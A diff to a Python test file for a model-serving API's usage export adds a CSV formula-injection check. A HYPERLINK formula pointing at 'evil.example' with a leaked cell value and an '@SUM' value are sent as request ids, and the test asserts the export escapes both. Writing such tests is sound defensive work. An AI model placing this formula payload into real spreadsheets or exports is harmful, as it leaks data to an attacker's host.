@@ -4,6 +4,7 @@ bad input gets a 4xx naming the problem, every change leaves an audit row, and e
 answer matches the OpenAPI document the server publishes."""
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -498,7 +499,9 @@ def test_usage_series_and_export(admin_live, upload_adapters):
         key = api.post("/keys", json={"tenant": t}).json()["key"]
         assert _upload(api, name, adapter_files(upload_adapters["r4"]), grants=t).status_code == 201
         client = admin_live.openai(key)
-        outs = [client.completions.create(model=m, prompt="Hello", max_tokens=3) for m in (admin_live.model, name)]
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'  # a client-chosen x-request-id
+        outs = [client.completions.create(model=m, prompt="Hello", max_tokens=3, extra_headers={"x-request-id": rid})
+                for m, rid in ((admin_live.model, formula), (name, "@SUM(A1)"))]
         want = sum(o.usage.total_tokens for o in outs)
         deadline = time.monotonic() + 20
         while True:  # metering writes in batches: wait for it
@@ -518,6 +521,9 @@ def test_usage_series_and_export(admin_live, upload_adapters):
         assert csv_.status_code == 200 and csv_.headers["content-type"].startswith("text/csv")
         assert "attachment" in csv_.headers["content-disposition"]
         assert all(o.id in csv_.text for o in outs)
+        rows = list(csv.DictReader(io.StringIO(csv_.text)))  # formula cells arrive as text, counts as numbers
+        assert {r["correlation_id"] for r in rows} == {"'" + formula, "'@SUM(A1)"}
+        assert all(r["total_tokens"].isdigit() for r in rows)
         lines = api.get("/usage/export", params={"tenant": t, "format": "jsonl"}).text.splitlines()
         assert {json.loads(x)["request_id"] for x in lines} == {o.id for o in outs}
         ce = [json.loads(x) for x in api.get("/usage/export", params={"tenant": t, "format": "cloudevents"})
